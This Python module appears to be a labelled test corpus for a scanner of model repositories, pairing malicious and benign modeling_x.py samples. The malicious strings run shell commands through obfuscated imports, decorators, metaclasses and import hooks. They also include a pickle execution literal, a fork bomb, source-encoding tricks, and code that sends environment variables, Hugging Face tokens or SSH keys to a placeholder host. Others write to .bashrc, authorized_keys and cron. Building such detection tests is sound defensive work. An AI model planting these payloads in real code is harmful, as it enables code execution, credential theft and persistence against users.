"""Python that acts as soon as it is imported or a model is loaded by it, by less usual ways; and honest modules."""

from collections.abc import Iterator

from tests.attack.corpus.case import Case, Label, fixed

__all__ = ["cases"]

MODEL = "from transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def __init__(self, c):\n        super().__init__(c)\n        {}\n"  # fmt: skip
IMPORTED = {
    "import-stored": "m = __import__('os')\nm.system('id')\n",
    "import-by-chr": "m = __import__(''.join(map(chr, [111, 115])))\n",
    "import-by-list": "m = __import__(''.join(chr(c) for c in [111, 115]))\n",
    "import-by-bytes": "m = __import__(bytes.fromhex('6f73').decode())\n",
    "import-in-lambda": "(lambda s: (lambda m: m.system('id'))(__import__(s)))('so'[::-1])\n",
    "attribute-by-pieces": "b = __builtins__\nf = getattr(b, 'ex' + 'ec')\nf('1')\n",
    "eval-by-getattr": "getattr(__import__('builtins'), 'eval')('1+1')\n",
    "sys-modules": "import sys\nsys.modules['os'].system('id')\n",
    "posix": "import posix\nposix.execv('/bin/sh', ['sh'])\n",
    "star": "from os import *\nspawnlp(P_NOWAIT, 'sh', 'sh', '-c', 'id')\n",
    "distutils": "import distutils.spawn\ndistutils.spawn.spawn(['id'])\n",
    "multiprocessing": "import multiprocessing.util as u\nu.spawnv_passfds(b'/bin/sh', [b'sh'], ())\n",
    "fork": "import os\nwhile True:\n    os.fork()\n",
    "handed-to-atexit": "import atexit, os\natexit.register(os.system, 'id')\n",
    "handed-to-a-thread": "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n",
    "handed-to-map": "import os\nlist(map(os.popen, ['id']))\n",
    "handed-to-partial": "import os, functools\nf = functools.partial(os.system, 'id')\nf()\n",
    "function-in-a-thread": "import threading, os\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()\n",
    "decorator": "@__import__('os').system\n@(lambda f: 'id')\ndef g():\n    pass\n",
    "own-decorator": "import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef g():\n    pass\n",
    "metaclass": "import os\nclass T(type):\n    def __new__(c, *a):\n        os.popen('id')\n        return super().__new__(c, *a)\nclass A(metaclass=T):\n    pass\n",
    "init-subclass": "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('id')\nclass B(A):\n    pass\n",
    "made-object": "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()\n",
    "import-hook": "import sys, os\nclass H:\n    def find_spec(self, n, p, t=None):\n        os.system('id')\nsys.meta_path.insert(0, H())\n",
    "not-as-program": "import os\nif __name__ != '__main__':\n    os.system('id')\n",
    "subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])\n",
    "timeit": "import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)\n",
    "code-module": "import code\ncode.InteractiveInterpreter().runsource(\"import os; os.system('id')\")\n",
    "exec-of-text": "exec('import os\\nos.system(\"id\")')\n",
    "exec-xor": "d = bytes(c ^ 42 for c in b'CGZEX')\nexec(d)\n",
    "exec-of-a-tensor": "import torch\nw = torch.load('w.bin')\nexec(bytes(w.tolist()).decode())\n",
    "exec-of-metadata": "from safetensors import safe_open\nm = safe_open('m.safetensors', 'pt').metadata()\nexec(m['x'])\n",
    "pickle-literal": "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
    "torch-load-download": "import torch\nfrom huggingface_hub import hf_hub_download\np = hf_hub_download('a/b', 'c')\ntorch.load(p, weights_only=False)\n",
    "hub-load": "import torch\ntorch.hub.load('a/b', 'm', trust_repo=True)\n",
    "load-inline": "from torch.utils.cpp_extension import load_inline\nload_inline('x', cpp_sources='int f(){return system(\"id\");}', functions=['f'])\n",
    "ctypes-libc": "import ctypes\nctypes.CDLL(None).system(b'id')\n",
    "ctypes-code": "import ctypes\nb = ctypes.create_string_buffer(b'x')\nctypes.CFUNCTYPE(None)(ctypes.addressof(b))()\n",
    "cffi": "import cffi\nf = cffi.FFI()\nf.dlopen(None).system(b'id')\n",
    "library-in-weights": "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'weights.bin'))\n",
    "ops-library": "import torch\ntorch.ops.load_library('model.safetensors')\n",
    "loader-of-text": "from importlib.machinery import SourceFileLoader as S\nS('x', 'data.txt').load_module()\n",
    "run-path-of-a-picture": "import runpy\nrunpy.run_path('logo.png')\n",
    "pip": "import pip\npip.main(['install', 'x'])\n",
    "sends-environment": "import os, json, requests\nrequests.post('http://x', data=json.dumps(dict(os.environ)))\n",
    "sends-token": "import requests, pathlib\nt = (pathlib.Path.home() / '.cache/huggingface/token').read_text()\nrequests.post('http://x', data=t)\n",
    "sends-key-by-name": "import os, socket\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nsocket.gethostbyname(d[:9] + '.x')\n",
    "sends-in-function": "import os, requests\ndef f():\n    requests.post('http://x', json=dict(os.environ))\n",
    "writes-bashrc": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n",
    "writes-keys": "import pathlib\n(pathlib.Path.home() / '.ssh/authorized_keys').write_text('x')\n",
    "writes-cron": "open('/etc/cron.d/x', 'w').write('x')\n",
    "writes-bashrc-later": "def f():\n    open('/root/.bashrc', 'a').write('x')\n",
    "listens-to-keys": "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n",
    "model-init": "import os\n" + MODEL.format("os.system('id')"),
    "model-init-shell": "import subprocess\n" + MODEL.format("subprocess.run(['curl', 'http://x'])"),
    "handler": "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('id')\n",
    "setup-hook": "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': I})\n",
    "replaces-loader": "import torch\ndef f(*a):\n    pass\ntorch.load = f\n",
    "in-forward": "import os\nclass A:\n    def forward(self, x):\n        os.system('id')\n",
}  # fmt: skip
ENCODED = {
    "rot13": b"# -*- coding: rot13 -*-\nvzcbeg bf\n",
    "utf-7": b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n",
    "unicode-escape": b"# coding: unicode_escape\nx = 1 # \\nimport os\n",
    "raw-unicode-escape": b"# coding: raw_unicode_escape\n# \\u000aimport os\n",
    "second-line": b"#!/usr/bin/python\n# vim: set fileencoding=utf_7 :\n",
    "carriage-return": b"# x\r# coding: utf-7\r\n",
    "behind-mark": b"\xef\xbb\xbf# coding: punycode\n",
    "codec-of-bytes": b"# coding: hex\n",
    "latin-1-hides-nothing": "# coding: latin-1\nimport os\nos.system('é')\n".encode("latin-1"),
}
HONEST = {
    "lazy-module": "import importlib, sys\nclass L:\n    def __getattr__(self, name):\n        return importlib.import_module('.' + name, __name__)\nsys.modules[__name__] = L()\n",
    "eval-mode": "def f(m):\n    return getattr(m, 'eval')()\n",
    "one-variable": "import os, requests\ndef f(u):\n    return requests.get(u, headers={'Authorization': 'Bearer ' + os.environ['HF_TOKEN']})\n",
    "environment-of-a-child": "import os, subprocess\ndef f():\n    subprocess.run(['git'], env=dict(os.environ))\n",
    "load-weights": "import torch\ndef f(p):\n    return torch.load(p, weights_only=True)\n",
    "load-local": "import torch\ndef f(p):\n    return torch.load(p, map_location='cpu', weights_only=False)\n",
    "registry": "R = {}\ndef register(f):\n    R[f.__name__] = f\n    return f\n@register\ndef g():\n    pass\n",
    "subclasses": "class A:\n    pass\ndef f():\n    return A.__subclasses__()\n",
    "partial": "import functools\nf = functools.partial(int, base=2)\n",
    "atexit": "import atexit\ndef f():\n    pass\natexit.register(f)\n",
    "model-init": MODEL.format("self.x = getattr(c, 'a' + 'b', None)"),
    "build-later": "def f():\n    from torch.utils.cpp_extension import load\n    return load(name='x', sources=['a.cu'])\n",
    "writes-model": "import pathlib\ndef f(d):\n    (pathlib.Path(d) / 'config.json').write_text('{}')\n",
    "module-run": "import threading\ndef f():\n    threading.Thread(target=print).start()\n",
}  # fmt: skip
COOKIES = {
    "utf-8": "# -*- coding: utf-8 -*-\nX = 'é'\n".encode(),
    "latin-1": "# coding: iso-8859-1\nX = 'é'\n".encode("latin-1"),
    "cp1252": "# vim: set fileencoding=cp1252 :\nX = 'é'\n".encode("cp1252"),
    "gbk": "# coding: gbk\nX = '模型'\n".encode("gbk"),
    "third-line": b"import os\nimport sys\n# coding: rot13\n",
    "in-a-text": b"X = '# coding: rot13'\n",
}


def cases() -> Iterator[Case]:
    """Each as a module of a model."""
    told: list[tuple[str, dict[str, str], Label]] = [
        ("python-imported", IMPORTED, "malicious"),
        ("python-honest", HONEST, "benign"),
    ]
    for family, programs, label in told:
        for name, program in programs.items():
            yield Case(family, name, "modeling_x.py", label, fixed(program.encode()))
    for name, data in ENCODED.items():
        yield Case("python-encoded", name, "modeling_x.py", "malicious", fixed(data))
    for name, data in COOKIES.items():
        yield Case("python-cookie", name, "modeling_x.py", "benign", fixed(data))
